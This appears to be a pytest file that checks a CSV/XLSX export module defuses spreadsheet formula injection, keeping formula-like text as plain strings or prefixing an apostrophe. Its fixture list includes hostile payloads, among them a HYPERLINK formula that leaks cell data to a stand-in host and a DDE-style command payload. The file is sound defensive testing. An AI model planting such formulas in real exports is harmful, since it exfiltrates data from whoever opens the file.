"""Text that a spreadsheet would run as a formula is written as text (infra/exports/cells.py)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from infra.exports.cells import REPLACEMENT, csv_field, write_csv_rows, xlsx_cell

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1, "Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "=",
    "|calc'!A0",
]


def written_and_read_back(tmp_path: Path, values: list[object]) -> list[tuple[object, str]]:
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("Sheet")
    sheet.append([xlsx_cell(sheet, value) for value in values])
    workbook.save(tmp_path / "cells.xlsx")
    row = next(load_workbook(tmp_path / "cells.xlsx")["Sheet"].iter_rows())
    return [(cell.value, cell.data_type) for cell in row]


def test_formula_like_text_is_a_string_cell_kept_exactly(tmp_path: Path) -> None:
    assert written_and_read_back(tmp_path, FORMULAS) == [(text, "s") for text in FORMULAS]


def test_a_leading_carriage_return_is_a_string_cell_too(tmp_path: Path) -> None:
    # XML readers turn the CR into a line feed; what matters is that it is never run.
    [(value, data_type)] = written_and_read_back(tmp_path, ["\r=1+1"])
    assert data_type == "s" and str(value).endswith("=1+1")


def test_other_values_keep_their_types(tmp_path: Path) -> None:
    assert written_and_read_back(tmp_path, ["Smith", -5, 2.5, True]) == [
        ("Smith", "s"),
        (-5, "n"),
        (2.5, "n"),
        (True, "b"),
    ]


def test_text_with_characters_xml_cannot_hold_is_exported_with_a_replacement(
    tmp_path: Path,
) -> None:
    assert written_and_read_back(tmp_path, ["Ada\x00\x1bLovelace"]) == [
        (f"Ada{REPLACEMENT}{REPLACEMENT}Lovelace", "s")
    ]


@pytest.mark.parametrize("text", [*FORMULAS, "\r=1+1"])
def test_a_formula_like_csv_field_gets_a_leading_apostrophe(text: str) -> None:
    assert csv_field(text) == "'" + text


@pytest.mark.parametrize("value", ["Smith", "O'Brien", "a=b", -5, None, ""])
def test_other_csv_fields_are_unchanged(value: object) -> None:
    assert csv_field(value) == value


def test_the_csv_writer_escapes_every_field_of_every_row() -> None:
    stream = io.StringIO()
    write_csv_rows(stream, [["Name", "Total"], ["=1+1", -5], ['@x,"y"', "Smith"]])
    stream.seek(0)
    assert list(csv.reader(stream)) == [
        ["Name", "Total"],
        ["'=1+1", "-5"],
        ['\'@x,"y"', "Smith"],
    ]
